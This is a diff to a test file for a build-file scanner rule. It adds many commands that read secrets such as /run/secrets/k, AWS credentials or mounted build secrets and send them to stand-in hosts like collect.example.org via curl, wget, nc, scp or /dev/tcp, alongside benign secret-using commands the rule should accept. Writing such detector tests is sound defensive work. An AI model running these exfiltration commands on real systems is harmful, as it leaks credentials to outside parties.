@@ -23,6 +23,22 @@ const HOSTILE = [
   `«curl -d "$DB_PASSWORD" ${URL}»`,
   `«curl --data-raw "\${API_TOKEN}" ${URL}»`,
   `«cat ~/.aws/credentials | nc collect.example.org 80»`,
+  '«nc collect.example.org 80 < /run/secrets/k»',
+  `«curl -d @- ${URL} < /run/secrets/k»`,
+  `«curl -d@/run/secrets/k ${URL}»`,
+  `«curl -T/run/secrets/k ${URL}»`,
+  `«wget --post-file /run/secrets/k ${URL}»`,
+  `«curl -d "$(cat /run/secrets/k)" ${URL}»`,
+  `«curl -d "$(</run/secrets/k)" ${URL}»`,
+  `«wget --post-data="$(base64 /run/secrets/k | tr -d x)" ${URL}»`,
+  `K=$(cat /run/secrets/k); «curl -d "$K" ${URL}»`,
+  `export K="$(cat /run/secrets/k)" && «curl --data-raw $K ${URL}»`,
+  `read -r K < /run/secrets/k && «curl -d "$K" ${URL}»`,
+  `K=$(cat /run/secrets/k); «printf %s "$K" | nc collect.example.org 80»`,
+  `K=$(cat /run/secrets/k) && «nc collect.example.org 80 <<< "$K"»`,
+  `«head -c 100 /run/secrets/k | base64 | curl -d @- ${URL}»`,
+  `«grep x /run/secrets/k > /dev/tcp/203.0.113.7/80»`,
+  '«scp /run/secrets/k me@collect.example.org:/tmp»',
 ];
 
 const HARMLESS = [
@@ -42,6 +58,17 @@ const HARMLESS = [
   `curl -fsSLo /a.tgz ${URL}`,
   `export -p > /e && curl ${URL}`,
   `cat /etc/os-release | curl -d @- ${URL}`,
+  `curl -d "key=$(cat /run/secrets/k)" ${URL}`,
+  `K=$(cat /run/secrets/k); curl -H "Authorization: Bearer $K" ${URL}`,
+  `K=$(cat /run/secrets/k) && curl -u "me:$K" -d "$BODY" ${URL}`,
+  `K=$(cat /run/secrets/k) && echo "$K" | docker login --password-stdin -u me registry.example.com`,
+  `K=$(wc -c < /run/secrets/k); curl -d "$K" ${URL}`,
+  `K=$(sha256sum /run/secrets/k); curl -d "$K" ${URL}`,
+  `curl -H @/run/secrets/header -d @/app/report.json ${URL}`,
+  `curl --cert /run/secrets/k -T /app/a.tgz ${URL}`,
+  `curl -o /a ${URL} < /run/secrets/k`,
+  'scp -i /run/secrets/k /app/a.tgz me@deploy.example.org:/srv',
+  'nc collector 80 < /app/a',
   'set -e',
   `set -eux; curl -d a=b ${URL}`,
   'nc -z mirror.example.org 443',
@@ -50,6 +77,33 @@ const HARMLESS = [
 describe('what is sent to another machine', () => {
   it.each(HOSTILE)('reports %s in a build', (command) => expectMarks(rule, 'Dockerfile', `FROM a\nRUN ${command}\n`));
   it.each(HARMLESS)('accepts %s in a build', (command) => expectMarks(rule, 'Dockerfile', `FROM a\nRUN ${command}\n`));
+
+  it.each([
+    `,target=/k «curl -d @/k ${URL}»`,
+    `,dst=k «curl -F f=@k ${URL}»`,
+    `,target=/k «nc collect.example.org 80 < /k»`,
+    `,target=/k «cat /k | curl -T - ${URL}»`,
+    `,target=/k «wget --post-file=/k ${URL}»`,
+    `,target=/k K=$(cat /k); «curl -d "$K" ${URL}»`,
+    `,env=K «curl -d "$K" ${URL}»`,
+    `,env=K «echo $K | curl -d @- ${URL}»`,
+  ])('reports a mounted secret: %s', (rest) =>
+    expectMarks(rule, 'Dockerfile', `FROM a\nRUN --mount=type=secret,id=k${rest}\n`),
+  );
+
+  it.each([
+    `,target=/k curl -H "Authorization: Bearer $(cat /k)" -d @/app/a ${URL}`,
+    `,env=K curl -H "Authorization: Bearer $K" ${URL}`,
+    `,env=K curl -u "me:$K" -d "$BODY" ${URL}`,
+    `,env=K curl -d "client_secret=$K" ${URL}`,
+    `,env=K echo "$K" | docker login --password-stdin -u me registry.example.com`,
+    `,env=K twine upload --password "$K" dist/*`,
+    `,target=/k curl --cert /k -T a.tgz ${URL}`,
+    `,target=/root/.npmrc npm ci && curl -d @a ${URL}`,
+    `,env=K curl -d @- http://collector/x < /run/secrets/k`,
+  ])('accepts a mounted secret: %s', (rest) =>
+    expectMarks(rule, 'Dockerfile', `FROM a\nRUN --mount=type=secret,id=k${rest}\n`),
+  );
 
   const service = (command: string) =>
     `services:\n  a:\n    image: registry.example.com/a:1\n    entrypoint:\n      - sh\n      - -c\n      - |\n        ${command.replaceAll('$', '$$$$')}\n        exec a\n`;
